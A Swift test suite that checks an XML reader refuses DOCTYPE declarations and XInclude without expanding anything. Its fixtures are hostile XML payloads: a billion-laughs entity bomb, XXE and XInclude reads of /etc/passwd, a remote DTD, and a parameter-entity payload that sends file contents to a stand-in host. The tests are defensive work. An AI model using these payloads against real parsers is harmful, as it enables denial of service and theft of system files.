import Catalogue
import Foundation
import Testing
@testable import Formats

/// Hostile input: a DOCTYPE is refused before any entity is declared, let alone expanded.
@Suite struct XMLSecurityTests {
    static let billionLaughs = """
        <?xml version="1.0"?>
        <!DOCTYPE procedure [
          <!ENTITY lol "lol">
          <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
          <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
          <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
          <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
          <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
          <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
          <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
          <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
          <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
        ]>
        <procedure xmlns="urn:tthc:1"><name>&lol9;</name></procedure>
        """

    static let externalEntity = """
        <?xml version="1.0"?>
        <!DOCTYPE procedure [
          <!ENTITY xxe SYSTEM "file:///etc/passwd">
        ]>
        <procedure xmlns="urn:tthc:1"><name>&xxe;</name></procedure>
        """

    static let externalDTD = """
        <?xml version="1.0"?>
        <!DOCTYPE procedure SYSTEM "http://example.invalid/evil.dtd">
        <procedure xmlns="urn:tthc:1"><name>Thủ tục</name></procedure>
        """

    static let parameterEntity = """
        <?xml version="1.0"?>
        <!DOCTYPE procedure [
          <!ENTITY % file SYSTEM "file:///etc/passwd">
          <!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://example.invalid/?x=%file;'>">
          %eval;
          %exfil;
        ]>
        <procedure xmlns="urn:tthc:1"><name>Thủ tục</name></procedure>
        """

    @Test(arguments: [
        ("billion laughs", billionLaughs),
        ("external entity reading /etc/passwd", externalEntity),
        ("external DTD over the network", externalDTD),
        ("parameter entities", parameterEntity),
    ])
    func doctypeIsRefusedWithoutExpanding(_ name: String, _ xml: String) throws {
        let clock = ContinuousClock()
        var errors: [Diagnostic] = []
        let elapsed = clock.measure { errors = XMLSamples.failures(xml, file: "evil.xml") }
        #expect(errors.count == 1, "\(name): \(errors)")
        let error = try #require(errors.first)
        #expect(error.location == SourceLocation(file: "evil.xml", line: 2, column: 1))
        #expect(error.message.contains("DOCTYPE"))
        #expect(!error.description.contains("root:"), "nothing from /etc/passwd may leak into the message")
        #expect(elapsed < .seconds(1), "\(name) took \(elapsed): something was expanded")
    }

    @Test func undeclaredEntityIsAnErrorNotAnExpansion() throws {
        let errors = XMLSamples.failures("""
            <procedure xmlns="urn:tthc:1"><name>&xxe;</name></procedure>
            """)
        let error = try #require(errors.first)
        #expect(error.location?.line == 1)
        #expect(error.message.contains("xxe"))
    }

    @Test func predefinedEntitiesAndCharacterReferencesAreRead() throws {
        guard case .procedure(let p, _) = try XMLFormat.read(XMLSamples.bytes("""
            <procedure xmlns="urn:tthc:1"><name>A &amp; B &lt;C&gt; &#x110;&#259;ng</name></procedure>
            """), file: "e.xml") else {
            Issue.record("expected a procedure")
            return
        }
        #expect(p.name == "A & B <C> Đăng")
    }

    @Test func xIncludeIsNotProcessed() throws {
        let errors = XMLSamples.failures("""
            <procedure xmlns="urn:tthc:1" xmlns:xi="http://www.w3.org/2001/XInclude">
              <name>Thủ tục</name>
              <xi:include href="/etc/passwd" parse="text"/>
            </procedure>
            """)
        let error = try #require(errors.first)
        #expect(error.location?.line == 3)
        #expect(!error.description.contains("root:"))
    }
}
